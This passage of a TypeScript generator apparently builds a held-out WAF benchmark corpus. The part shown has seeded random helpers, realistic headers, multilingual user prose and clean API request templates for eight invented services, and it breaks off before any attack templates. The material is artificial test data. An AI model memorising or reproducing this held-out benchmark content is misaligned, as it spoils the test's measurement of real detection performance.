// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out WAF corpus 15: clean JSON-API traffic and attacks for eight domains (research lab notebooks,
 * municipal utility billing, church/club membership, marketing automation, CAD model sharing, translation
 * memory and subtitling, DevOps incident management, e-commerce catalog). Deterministic (seeded PRNG).
 * Run `node bench/waf/corpus/heldout15.ts` to write clean-heldout15.json and attacks-heldout15.json.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

type H = Record<string, string>;
interface Req {
  kind: string;
  method: string;
  path: string;
  headers: H;
  body: string;
}

/** mulberry32 PRNG. */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const rnd = mulberry32(0x15c0ffee);
function pick<T>(a: readonly T[]): T {
  return a[Math.floor(rnd() * a.length)] as T;
}
function int(lo: number, hi: number): number {
  return lo + Math.floor(rnd() * (hi - lo + 1));
}
function chance(p: number): boolean {
  return rnd() < p;
}
const HEX = '0123456789abcdef';
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
function rstr(n: number, alphabet = ALNUM): string {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(rnd() * alphabet.length)];
  return s;
}
function uuid(): string {
  return `${rstr(8, HEX)}-${rstr(4, HEX)}-4${rstr(3, HEX)}-${pick(['8', '9', 'a', 'b'])}${rstr(3, HEX)}-${rstr(12, HEX)}`;
}
function b64(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64');
}
function b64url(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64url');
}
function isoDate(): string {
  const m = int(1, 12);
  const d = int(1, 28);
  return `2026-${String(m).padStart(2, '0')}-${String(d).padStart(2, '0')}`;
}
function isoTime(): string {
  return `${isoDate()}T${String(int(0, 23)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}.${int(100, 999)}Z`;
}
function money(lo: number, hi: number): string {
  return (lo + rnd() * (hi - lo)).toFixed(2);
}
function qs(o: Record<string, string | number | boolean>): string {
  return Object.entries(o)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v))}`)
    .join('&');
}
function formBody(o: Record<string, string | number | boolean>): string {
  return Object.entries(o)
    .map(
      ([k, v]) =>
        `${encodeURIComponent(k).replace(/%20/g, '+')}=${encodeURIComponent(String(v)).replace(/%20/g, '+')}`,
    )
    .join('&');
}
function j(o: unknown): string {
  return JSON.stringify(o);
}

// ---------------------------------------------------------------- headers

const DOMAINS = {
  research: { host: 'eln.biochem.uni-hallstatt.edu', origin: 'https://eln.biochem.uni-hallstatt.edu' },
  utility: { host: 'billing.maplewood-utilities.gov', origin: 'https://pay.maplewood-utilities.gov' },
  church: { host: 'api.parishhub.org', origin: 'https://stmarks.parishhub.org' },
  marketing: { host: 'api.journeyloop.io', origin: 'https://app.journeyloop.io' },
  cad: { host: 'api.meshvault.com', origin: 'https://meshvault.com' },
  translation: { host: 'api.linguabase.eu', origin: 'https://studio.linguabase.eu' },
  devops: { host: 'api.pagerops.dev', origin: 'https://app.pagerops.dev' },
  shop: { host: 'api.shopnest.com', origin: 'https://www.shopnest.com' },
} as const;
type Dom = keyof typeof DOMAINS;

const BROWSER_UA = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.39 Mobile Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
];
const SDK_UA = [
  'python-requests/2.32.3',
  'axios/1.7.9',
  'node-fetch/3.3.2',
  'Go-http-client/2.0',
  'okhttp/4.12.0',
  'PostmanRuntime/7.43.0',
  'curl/8.5.0',
  'Ruby',
  'Apache-HttpClient/5.3.1 (Java/21.0.5)',
  'undici',
  'Terraform/1.9.8 terraform-provider-pagerops/2.4.0',
];
const MOBILE_UA = [
  'ParishHub/4.12.1 (iPhone15,3; iOS 18.1.1; Scale/3.00)',
  'ParishHub/4.11.0 (Android 14; SM-S918B)',
  'MaplewoodPay/2.3.0 (com.maplewood.pay; build:310; iOS 17.6.1) Alamofire/5.9.1',
  'ShopNest/8.4.2 (Android 13; moto g power 5G) okhttp/4.12.0',
  'Dalvik/2.1.0 (Linux; U; Android 14; Pixel 7 Build/AP2A.240905.003)',
  'PagerOps/3.0.7 CFNetwork/1568.200.51 Darwin/24.1.0',
];
const LANGS = [
  'en-US,en;q=0.9',
  'de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7',
  'fr-FR,fr;q=0.9,en;q=0.8',
  'es-ES,es;q=0.9',
  'pt-BR,pt;q=0.9,en-US;q=0.8',
  'ja-JP,ja;q=0.9,en;q=0.8',
  'pl-PL,pl;q=0.9,en-US;q=0.7',
  'nl-NL,nl;q=0.9,en;q=0.8',
  'en-GB,en;q=0.9',
];

function jwt(): string {
  const head = b64url(j({ alg: 'RS256', typ: 'JWT', kid: rstr(10, HEX) }));
  const payload = b64url(
    j({
      sub: uuid(),
      iss: 'https://auth.example-idp.com/',
      aud: 'api',
      iat: 1790000000 + int(0, 9000000),
      exp: 1800000000 + int(0, 9000000),
      scope: pick(['read write', 'openid profile email', 'catalog:write', 'incidents:rw']),
    }),
  );
  return `${head}.${payload}.${rstr(86, `${ALNUM}-_`)}`;
}
function cookie(d: Dom): string {
  const parts = [
    `_ga=GA1.1.${int(100000000, 999999999)}.${int(1700000000, 1790000000)}`,
    `session=${rstr(32, `${ALNUM}-_`)}`,
  ];
  if (chance(0.5)) parts.push(`XSRF-TOKEN=${rstr(40)}`);
  if (chance(0.4)) parts.push(`lang=${pick(['en', 'de', 'fr', 'es', 'pt-BR'])}`);
  if (d === 'shop' && chance(0.6)) parts.push(`cart=${uuid()}`);
  if (chance(0.3)) parts.push('cookie_consent=%7B%22analytics%22%3Atrue%2C%22ads%22%3Afalse%7D');
  return parts.join('; ');
}

/** Browser request headers (SPA calling its API). */
function browser(d: Dom, ct?: string, extra: H = {}): H {
  const dom = DOMAINS[d];
  const h: H = {
    host: dom.host,
    'user-agent': pick(BROWSER_UA),
    accept: 'application/json, text/plain, */*',
    'accept-language': pick(LANGS),
    'accept-encoding': 'gzip, deflate, br, zstd',
    origin: dom.origin,
    referer: `${dom.origin}/${pick(['dashboard', 'settings', 'app', 'admin', 'm'])}`,
    cookie: cookie(d),
    'sec-fetch-mode': 'cors',
    'sec-fetch-site': 'same-site',
  };
  if (chance(0.5)) h['x-xsrf-token'] = rstr(40);
  if (ct) h['content-type'] = ct;
  return { ...h, ...extra };
}
/** Server-to-server / SDK / CLI headers. */
function sdk(d: Dom, ct?: string, extra: H = {}): H {
  const h: H = {
    host: DOMAINS[d].host,
    'user-agent': pick(SDK_UA),
    accept: pick(['application/json', '*/*', 'application/json, */*;q=0.8']),
  };
  if (chance(0.6)) h.authorization = `Bearer ${jwt()}`;
  else h['x-api-key'] = `${pick(['sk_live_', 'pk_', 'key-', 'po_'])}${rstr(32)}`;
  if (chance(0.4)) h['x-request-id'] = uuid();
  if (chance(0.3)) h['idempotency-key'] = uuid();
  if (ct) h['content-type'] = ct;
  return { ...h, ...extra };
}
/** Mobile app headers. */
function mobile(d: Dom, ct?: string, extra: H = {}): H {
  const h: H = {
    host: DOMAINS[d].host,
    'user-agent': pick(MOBILE_UA),
    accept: 'application/json',
    'accept-language': pick(LANGS).split(',')[0] ?? 'en-US',
    authorization: `Bearer ${jwt()}`,
    'x-app-version': `${int(2, 9)}.${int(0, 20)}.${int(0, 9)}`,
    'x-device-id': uuid().toUpperCase(),
  };
  if (ct) h['content-type'] = ct;
  return { ...h, ...extra };
}
function anyClient(d: Dom, ct?: string, extra: H = {}): H {
  const r = rnd();
  if (r < 0.5) return browser(d, ct, extra);
  if (r < 0.8) return sdk(d, ct, extra);
  return mobile(d, ct, extra);
}
const JSON_CT = ['application/json', 'application/json; charset=utf-8', 'application/json;charset=UTF-8'];
function jct(): string {
  return pick(JSON_CT);
}

function boundary(): string {
  return chance(0.6) ? `----WebKitFormBoundary${rstr(16)}` : `------------------------${rstr(16, HEX)}`;
}
interface Part {
  name: string;
  value: string;
  filename?: string;
  type?: string;
}
function multipart(parts: Part[], b: string): string {
  let s = '';
  for (const p of parts) {
    s += `--${b}\r\nContent-Disposition: form-data; name="${p.name}"`;
    if (p.filename !== undefined) s += `; filename="${p.filename}"`;
    s += '\r\n';
    if (p.type) s += `Content-Type: ${p.type}\r\n`;
    s += `\r\n${p.value}\r\n`;
  }
  return `${s}--${b}--\r\n`;
}

// ---------------------------------------------------------------- banks of realistic text

const FIRST = [
  'Anna',
  'Jürgen',
  'Siobhán',
  'Mateus',
  'Chloé',
  'Wojciech',
  'Aiko',
  'Olumide',
  'Priya',
  "D'Arcy",
  'Zoë',
  'Björn',
  'Mary-Kate',
  'Nguyễn',
  'Fatima',
  'Seán',
  'Élodie',
  'Kwame',
  'Łucja',
  'José Luis',
];
const LAST = [
  "O'Brien",
  'Müller',
  'Silva',
  'van der Berg',
  'Kowalczyk',
  'Tanaka',
  'Adeyemi',
  'Smith-Jones',
  'García Márquez',
  'Nakamura',
  'Østergaard',
  'Dubois',
  'McAllister',
  'Çelik',
  'Ng',
  'Rossi',
];
function person(): string {
  return `${pick(FIRST)} ${pick(LAST)}`;
}
function email(): string {
  const n = `${pick(['anna', 'j.mueller', 'sio.b', 'mateus.silva', 'chloe+orders', 'wkowal', 'aiko_t', 'ola', 'priya.r', 'darcy', 'zoe.l', 'bjorn'])}${chance(0.3) ? int(1, 99) : ''}`;
  return `${n}@${pick(['gmail.com', 'outlook.com', 'uni-hallstatt.edu', 'web.de', 'yahoo.co.jp', 'proton.me', 'icloud.com', 'example.org'])}`;
}

/** Ordinary user prose: reviews, comments, tickets — with technical words and punctuation real people use. */
const PROSE = [
  "Ordered the navy in M, fits true to size. The zipper's a bit stiff but it loosened up after a week. 4/5 would buy again!",
  'Honestly disappointed 😞 — the "waterproof" jacket soaked through in 20 min of light rain. Returned it.',
  'Great value for the price (< $40). Color is more teal than in the photos though.',
  'Can\'t log in to pay my bill, it keeps saying "Session expired (code 401)" even right after I sign in. Tried Chrome & Safari.',
  'My bill went from $84.12 to $213.40 this month?? Meter reading on 3/14 looks wrong — we were away on vacation for 2 weeks.',
  'Please drop off the meter key at the office; the gate code is #4471. Dog is friendly but loud.',
  "Thanks for organizing the bake sale! I can bring 2 dozen cookies (nut-free) and I'll be there from 9–11am.",
  "Reminder: choir practice moved to Thursday 7:30pm in the fellowship hall. Bring your folders & pencils, we'll go over hymn #412.",
  'Prayer request for my mom who is having surgery on Tuesday. 🙏',
  'Printed this at 0.2 mm layer height, PLA @ 210°C / 60°C bed, 15% gyroid infill. Needed supports under the overhang, otherwise perfect.',
  "The STEP file opens fine in FreeCAD 0.21 but Fusion throws 'Failed to import: invalid B-spline surface'. Could you re-export as AP214?",
  'Hole for the M3 insert is ~0.3mm too small on my Prusa MK4, had to drill it out. Maybe add a tolerance param?',
  'Rev C fixes the clearance issue between the bracket and the rail (was 0.5mm, now 1.2mm). Old version kept in /archive.',
  'Annealing at 58 °C gave a single clean band; at 62 °C nothing. Used 35 cycles, 2% agarose gel, ladder in lane 1.',
  'OD600 readings after 4h look off — plate reader threw "ERR 0x2F: lamp temperature" twice, so I re-ran wells A1–A12.',
  "Note: the buffer was made with Tris-HCl pH 7.4 + 150 mM NaCl; DON'T use the old stock on shelf 3, it is contaminated.",
  'Deploy of v2.31.4 at 14:02 UTC, error rate on /checkout spiked to 12%. Rolled back at 14:09 with `kubectl rollout undo deploy/checkout -n prod`.',
  'Root cause: connection pool exhaustion on the orders DB (max_connections=200). Long-running SELECT from the reporting job held locks for ~8 min.',
  "Pager woke me up at 3am for a disk alert on db-replica-2 — /var/lib/postgresql was at 91%. Cleaned up old WAL files, it's at 64% now.",
  'Customer says the subtitle timing drifts by ~2s after the 40 min mark. Probably 25 vs 23.976 fps mismatch.',
  'Glossary says "Bestellung" but the client wants "Auftrag" in all B2B contexts. Please update the TM before the next batch.',
  'Line 214 is over the 42 chars/line limit and reads too fast (21 cps). I split it into two cues.',
  'Segment "lapsed buyers" should exclude anyone who opened an email in the last 14 days, otherwise we double-send.',
  'A/B test results: subject line B ("Your cart misses you 🛒") had 23.4% open rate vs 19.1% for A. Rolling out B to 100%.',
  'Das Produkt kam beschädigt an, die Verpackung war komplett eingedrückt. Bitte um Ersatz oder Rückerstattung.',
  "Très bon rapport qualité/prix, livraison rapide. Seul bémol : la notice n'est qu'en anglais.",
  'El medidor de agua marca un consumo altísimo este mes, ¿pueden enviar a alguien a revisarlo?',
  'Chegou antes do prazo e a qualidade é ótima. Recomendo! ⭐⭐⭐⭐⭐',
  'サイズは普通でした。色が写真より少し暗いです。',
  'Świetny model, wydrukowałem bez problemu na Enderze 3. Dzięki!',
  'Hoi, de factuur klopt niet: ik ben per 1 maart verhuisd naar Dorpsstraat 12 maar word nog steeds gefactureerd voor het oude adres.',
  "Can someone explain why `SELECT count(*) FROM samples WHERE status = 'pending'` returns 0 in the dashboard but 14 in psql? Caching?",
  'FYI the wiki page is at https://wiki.example.org/display/LAB/Protocols?pageId=88123 — section 4.2 covers the centrifuge settings.',
  "Tried `rm -rf ~/.cache/meshvault && restart` like support suggested, still can't upload files > 50 MB. Error: 413 Request Entity Too Large.",
  'The export button gives me a file named report (1).csv with all the commas in the wrong place; opening it in Excel splits the addresses.',
  'Is the union meeting still on for Friday? I need to drop my kids at 5 so I may be 10 min late.',
  'Please delete my old address from the account and update the billing email to the one I used for this message. Thx!',
  'Looks like a race condition: two webhooks arrive within 50ms and both create the order → duplicate charge. Need an idempotency key.',
  "Stack trace from the app:\n  at OrderService.create (/app/dist/orders.js:118:23)\n  at async Promise.all (index 2)\nTypeError: Cannot read properties of undefined (reading 'sku')",
  'Got "ERROR: duplicate key value violates unique constraint \\"users_email_key\\"" when re-inviting a member who had left the parish.',
  'Size chart says 32/34 but it fits like a 30/32. Also the "slim fit" label is on the regular one... mixup at the warehouse?',
  'Bought 3x, 1 arrived w/ a scratch. Support was great & sent a replacement in 2 days 👍',
  'If you are using OrcaSlicer, set "Wall loops" = 3 and turn off "Detect thin wall", otherwise the clips snap.',
  'Attached the ffmpeg output; it says "Invalid data found when processing input" for the .srt — maybe BOM/encoding? File is UTF-16 LE.',
  'We should select a new venue for the spring retreat; the old one cancelled. Options: Lakeside Lodge ($$) or the Y camp ($).',
  'For the record: incident started when the cron job (0 */6 * * *) kicked off a full reindex at the same time as the backup.',
];

function prose(n = 1): string {
  const out: string[] = [];
  for (let i = 0; i < n; i++) out.push(pick(PROSE));
  return out.join(chance(0.5) ? '\n\n' : ' ');
}

const PRODUCT_TITLES = [
  'Trailhead Waterproof Shell Jacket',
  'Merino Crew Sock 3-Pack',
  'Cast Iron Skillet 10"',
  'Ceramic Pour-Over Coffee Dripper',
  "Kids' Rain Boots — Dino Print",
  'USB-C Hub 7-in-1 (4K HDMI, 100W PD)',
  'Linen Duvet Cover Set (Queen)',
  'Bamboo Cutting Board w/ Juice Groove',
];
const CAD_NAMES = [
  'Parametric cable clip (M3/M4)',
  'Raspberry Pi 5 case w/ fan mount',
  'Bracket_v3_final_FINAL',
  'Planetary gearbox 5:1',
  'Filament spool holder (608ZZ)',
  'Lab tube rack 15ml x 12',
  'Kayak rod holder',
];

// ---------------------------------------------------------------- clean templates

type Tpl = () => Req;

const markdownNote = (): string =>
  pick([
    "## Steps\n1. Thaw competent cells on ice (10 min)\n2. Add 2 µl plasmid\n3. Heat shock 42 °C for 45 s\n\n> **Note:** don't vortex!",
    'Repro:\n```\n$ curl -i https://api.pagerops.dev/v1/health\nHTTP/2 503\nretry-after: 30\n```\nHappens every ~5 min since the 14:00 deploy.',
    '- [x] rotate the API key\n- [ ] update the Grafana datasource\n- [ ] notify #ops-billing\n\nSee `docs/runbooks/db-failover.md` for details.',
    'Quick table:\n\n| Size | Chest (cm) | Length |\n|------|-----------|--------|\n| S | 96 | 70 |\n| M | 104 | 72 |\n| L | 112 | 74 |',
    '**Update 14:35** — mitigated by scaling `orders-worker` from 4 → 12 replicas. Queue depth back under 1k. _Monitoring._',
    'Use `{0}` and `{1}` placeholders exactly as in the source, e.g. "Hello {0}, you have {1} new messages". Don\'t translate `%s`.',
  ]);

const CLEAN: Array<[string, Tpl]> = [
  // ---------------- rest-write
  [
    'rest-write',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: `/api/v1/notebooks/${uuid()}/entries`,
      headers: browser('research', jct()),
      body: j({
        title: pick([
          'Miniprep of pUC19-GFP clones 3–8',
          'HPLC run #214 (C18, gradient 5→95% MeCN)',
          'Western blot — anti-His, 1:5000',
          'Cell counts day 3',
        ]),
        project_id: `PRJ-${int(100, 999)}`,
        summary: prose(1),
        samples: [`S-${int(1000, 9999)}`, `S-${int(1000, 9999)}`],
        tags: ['cloning', pick(['ecoli', 'qc', 'replicate', 'failed'])],
        witnessed_by: chance(0.5) ? person() : null,
      }),
    }),
  ],
  [
    'rest-write',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: `/api/v1/instruments/${pick(['plate-reader-01', 'hplc-02', 'qpcr-cfx96', 'nanodrop'])}/readings`,
      headers: sdk('research', jct()),
      body: j({
        run_id: uuid(),
        operator: pick(['jmueller', 'aiko.t', 'priya_r']),
        started_at: isoTime(),
        readings: Array.from({ length: int(3, 8) }, (_, i) => ({
          well: `${'ABCDEFGH'[i % 8]}${int(1, 12)}`,
          od600: Number((rnd() * 1.2).toFixed(3)),
          temp_c: Number((36 + rnd() * 2).toFixed(1)),
        })),
        firmware: `v${int(1, 4)}.${int(0, 9)}.${int(0, 20)}`,
      }),
    }),
  ],
  [
    'rest-write',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: `/api/billing/accounts/${int(1000000, 9999999)}/payments`,
      headers: pick([browser, mobile])('utility', jct()),
      body: j({
        amount: { value: money(20, 400), currency: 'USD' },
        method: pick([
          { type: 'ach', account_last4: String(int(1000, 9999)), routing_number: '021000021' },
          { type: 'card', token: `tok_${rstr(24)}`, brand: 'visa', last4: String(int(1000, 9999)) },
        ]),
        apply_to: pick(['current_balance', 'oldest_first']),
        memo: pick(['May + June', 'Payment for acct ending 4471', 'partial payment — rest on the 15th', '']),
        autopay_opt_in: chance(0.3),
      }),
    }),
  ],
  [
    'rest-write',
    () => ({
      kind: 'rest-write',
      method: 'PUT',
      path: `/api/meters/${pick(['W', 'E', 'G'])}-${int(100000, 999999)}/readings/${isoDate()}`,
      headers: mobile('utility', jct()),
      body: j({
        value: int(1000, 99999),
        unit: pick(['kWh', 'm3', 'gal', 'ccf']),
        estimated: chance(0.2),
        source: 'field-app',
        reader_note: pick([
          'Meter behind locked gate, read through fence',
          'Dial glass cracked — replace',
          'Customer says reading is too high; double-checked',
          '',
        ]),
        gps: { lat: 42.3 + rnd() / 10, lng: -83.4 + rnd() / 10 },
      }),
    }),
  ],
  [
    'rest-write',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/api/v2/events',
      headers: browser('church', jct()),
      body: j({
        title: pick([
          'Youth Group Lock-In',
          'Easter Vigil & Potluck',
          'Men\'s Breakfast — "Faith at Work"',
          'Chess club: spring open',
          'Choir rehearsal',
        ]),
        starts_at: isoTime(),
        ends_at: isoTime(),
        location: pick([
          'Fellowship Hall',
          'Room 2B (upstairs)',
          "St. Mark's — main sanctuary",
          'Online (Zoom)',
        ]),
        capacity: int(10, 200),
        rsvp_required: chance(0.6),
        category: pick(['youth', 'worship', 'social', 'outreach']),
        contact: { name: person(), email: email() },
      }),
    }),
  ],
  [
    'rest-write',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/api/v2/members',
      headers: browser('church', jct()),
      body: j({
        first_name: pick(FIRST),
        last_name: pick(LAST),
        email: email(),
        phone: `+1 (${int(200, 999)}) ${int(200, 999)}-${int(1000, 9999)}`,
        household_id: chance(0.5) ? `HH-${int(100, 9999)}` : null,
        ministries: [pick(['choir', 'ushers', 'food pantry', 'youth', 'altar guild'])],
        birthday: `${int(1940, 2010)}-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`,
        notes: pick([
          "Moved from St. Paul's in Dec.",
          'Prefers texts over email',
          'Wheelchair access needed',
          '',
        ]),
        consent: { photos: chance(0.7), directory: chance(0.5) },
      }),
    }),
  ],
  [
    'rest-write',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/v3/segments',
      headers: sdk('marketing', jct()),
      body: j({
        name: pick([
          'Lapsed buyers (90d)',
          'VIP — LTV > $500',
          'Newsletter only, DE',
          'Cart abandoners / mobile',
        ]),
        match: pick(['all', 'any']),
        rules: [
          { field: 'last_order_at', operator: 'not_within', value: '90d' },
          { field: 'email_status', operator: 'equals', value: 'subscribed' },
          { field: 'country', operator: 'in', value: ['DE', 'AT', 'CH'] },
          { field: 'total_spent', operator: 'greater_than', value: 500 },
        ].slice(0, int(2, 4)),
        exclude_segment_ids: [int(100, 999)],
      }),
    }),
  ],
  [
    'rest-write',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/v3/journeys',
      headers: browser('marketing', jct()),
      body: j({
        name: pick([
          'Welcome series v4',
          'Post-purchase review ask',
          'Win-back — 2 touch',
          'Birthday coupon',
        ]),
        trigger: {
          type: pick(['segment_entry', 'event']),
          event: 'Order Completed',
          segment_id: int(100, 999),
        },
        steps: [
          { id: 's1', type: 'wait', duration: 'P2D' },
          {
            id: 's2',
            type: 'email',
            template_id: `tmpl_${rstr(10)}`,
            subject: 'Thanks for your order, {{ first_name }}!',
          },
          { id: 's3', type: 'branch', condition: { field: 'opened', step: 's2', equals: false } },
          {
            id: 's4',
            type: 'sms',
            body: 'Hi {{ first_name | default: "there" }}, 10% off ends tonight: {{ short_link }} Reply STOP to opt out',
          },
        ],
        quiet_hours: { start: '21:00', end: '08:00', tz: 'Europe/Berlin' },
      }),
    }),
  ],
  [
    'rest-write',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/api/models',
      headers: browser('cad', jct()),
      body: j({
        name: pick(CAD_NAMES),
        description: prose(1),
        license: pick(['CC-BY-4.0', 'CC-BY-NC-SA-4.0', 'MIT', 'GPL-3.0-or-later']),
        units: pick(['mm', 'in']),
        files: [
          {
            name: pick(['bracket_v3.step', 'case-top.stl', 'gear 5to1.3mf', 'rack_15ml.f3d']),
            size: int(20000, 40000000),
            sha256: rstr(64, HEX),
          },
        ],
        print_settings: {
          layer_height: pick([0.12, 0.2, 0.28]),
          infill: `${int(10, 40)}%`,
          supports: chance(0.4),
        },
        tags: ['functional', pick(['printable', 'cnc', 'lab', 'raspberry-pi'])],
      }),
    }),
  ],
  [
    'rest-write',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: `/api/tm/${int(10, 99)}/units`,
      headers: sdk('translation', jct()),
      body: j({
        source: {
          lang: 'en-US',
          text: pick([
            'Please select an option.',
            'Your order #{0} has shipped.',
            'Delete this file? This cannot be undone.',
            'Drop files here or <b>browse</b>',
          ]),
        },
        target: {
          lang: pick(['de-DE', 'fr-FR', 'ja-JP', 'pl-PL']),
          text: pick([
            'Bitte wählen Sie eine Option.',
            'Votre commande n°{0} a été expédiée.',
            'このファイルを削除しますか？元に戻せません。',
            'Upuść pliki tutaj lub <b>przeglądaj</b>',
          ]),
        },
        context: pick(['checkout.confirm', 'files.delete_dialog', 'upload.dropzone']),
        origin: pick(['human', 'mt-postedit']),
        created_by: pick(['e.dubois', 'w.kowalczyk']),
      }),
    }),
  ],
  [
    'rest-write',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/api/v1/incidents',
      headers: pick([browser, sdk])('devops', jct()),
      body: j({
        title: pick([
          'Checkout p99 latency > 3s',
          'Elevated 5xx on api-gateway (eu-west-1)',
          'Kafka consumer lag on orders-events',
          'TLS cert expiring on *.shopnest.com in 3 days',
        ]),
        severity: pick(['SEV1', 'SEV2', 'SEV3']),
        service: pick(['checkout', 'billing-api', 'search', 'auth']),
        summary: prose(1),
        commander: pick(['@mkowal', '@aiko', '@oncall-primary']),
        labels: { env: 'prod', region: pick(['eu-west-1', 'us-east-2']) },
      }),
    }),
  ],
  [
    'rest-write',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/api/catalog/products',
      headers: sdk('shop', jct()),
      body: j({
        sku: `SN-${int(10000, 99999)}`,
        title: pick(PRODUCT_TITLES),
        brand: pick(['Northpeak', 'Kettle & Co.', 'Ferro']),
        status: 'draft',
        variants: ['S', 'M', 'L'].slice(0, int(1, 3)).map((s) => ({
          sku: `SN-${int(10000, 99999)}-${s}`,
          options: { size: s, color: pick(['Navy', 'Olive', 'Black/White']) },
          price: { amount: money(10, 200), currency: pick(['USD', 'EUR']) },
          inventory: int(0, 300),
          barcode: String(int(100000000, 999999999)) + String(int(1000, 9999)),
        })),
        seo: { handle: 'trailhead-waterproof-shell', meta_title: 'Trailhead Shell | Shopnest' },
      }),
    }),
  ],
  [
    'rest-write',
    () => ({
      kind: 'rest-write',
      method: 'PUT',
      path: `/api/catalog/products/${int(1000, 99999)}/inventory`,
      headers: sdk('shop', jct()),
      body: j({
        locations: [
          { id: 'wh-berlin', available: int(0, 500), reserved: int(0, 20) },
          { id: 'wh-rotterdam', available: int(0, 500), reserved: int(0, 20) },
        ],
        reason: pick(['cycle count', 'return restock', 'damaged — write off 2', 'PO #4471 received']),
      }),
    }),
  ],
  // ---------------- merge-patch
  [
    'merge-patch',
    () => ({
      kind: 'merge-patch',
      method: 'PATCH',
      path: `/api/v2/members/${int(1000, 9999)}`,
      headers: browser('church', 'application/merge-patch+json'),
      body: j({
        phone: `+44 7${int(100, 999)} ${int(100000, 999999)}`,
        address: {
          line2: null,
          city: pick(['Cork', 'Leeds', 'Dayton']),
          postcode: pick(['T12 X70A', 'LS6 2AB', '45402']),
        },
        ministries: ['ushers'],
        notes: null,
      }),
    }),
  ],
  [
    'merge-patch',
    () => ({
      kind: 'merge-patch',
      method: 'PATCH',
      path: `/api/v1/incidents/INC-${int(1000, 9999)}`,
      headers: sdk('devops', 'application/merge-patch+json'),
      body: j({
        status: pick(['mitigated', 'resolved', 'monitoring']),
        severity: pick(['SEV3', null]),
        resolution: pick([
          'Rolled back to v2.31.3; fix in PR #8812.',
          'Raised pool size to 50 and added statement_timeout=30s.',
          'Node i-0a1b2c3d replaced; ASG healthy.',
        ]),
        labels: { customer_impact: 'partial' },
      }),
    }),
  ],
  [
    'merge-patch',
    () => ({
      kind: 'merge-patch',
      method: 'PATCH',
      path: `/api/catalog/products/${int(1000, 99999)}/variants/${int(1, 9999)}`,
      headers: browser('shop', 'application/merge-patch+json'),
      body: j({
        price: { amount: money(5, 150) },
        compare_at_price: null,
        options: { color: 'Forest green' },
      }),
    }),
  ],
  [
    'merge-patch',
    () => ({
      kind: 'merge-patch',
      method: 'PATCH',
      path: `/api/billing/accounts/${int(1000000, 9999999)}`,
      headers: mobile('utility', 'application/merge-patch+json'),
      body: j({
        paperless: true,
        notifications: { sms: chance(0.5), email: true, outage_alerts: true },
        mailing_address: {
          line1: `${int(1, 999)} ${pick(['Main St', 'Elm Ave', 'Old Mill Rd'])}`,
          unit: pick(['Apt 4B', null, '#12']),
        },
      }),
    }),
  ],
  [
    'merge-patch',
    () => ({
      kind: 'merge-patch',
      method: 'PATCH',
      path: `/api/models/${rstr(8)}`,
      headers: browser('cad', 'application/merge-patch+json'),
      body: j({ visibility: pick(['public', 'unlisted']), description: prose(1), remix_of: null }),
    }),
  ],
  // ---------------- json-patch
  [
    'json-patch',
    () => ({
      kind: 'json-patch',
      method: 'PATCH',
      path: `/v3/segments/${int(100, 999)}`,
      headers: sdk('marketing', 'application/json-patch+json'),
      body: j([
        { op: 'test', path: '/version', value: int(1, 9) },
        { op: 'replace', path: '/rules/0/value', value: pick(['60d', '120d']) },
        { op: 'add', path: '/tags/-', value: pick(['winback', 'q3-promo']) },
      ]),
    }),
  ],
  [
    'json-patch',
    () => ({
      kind: 'json-patch',
      method: 'PATCH',
      path: `/api/tm/${int(10, 99)}/units/${uuid()}`,
      headers: browser('translation', 'application/json-patch+json'),
      body: j([
        {
          op: 'replace',
          path: '/target/text',
          value: pick([
            'Veuillez sélectionner une option.',
            'Wählen Sie bitte eine Option aus.',
            'Proszę wybrać opcję.',
          ]),
        },
        { op: 'add', path: '/notes/-', value: { author: 'e.dubois', text: 'Client prefers formal "vous".' } },
        { op: 'remove', path: '/flags/fuzzy' },
      ]),
    }),
  ],
  [
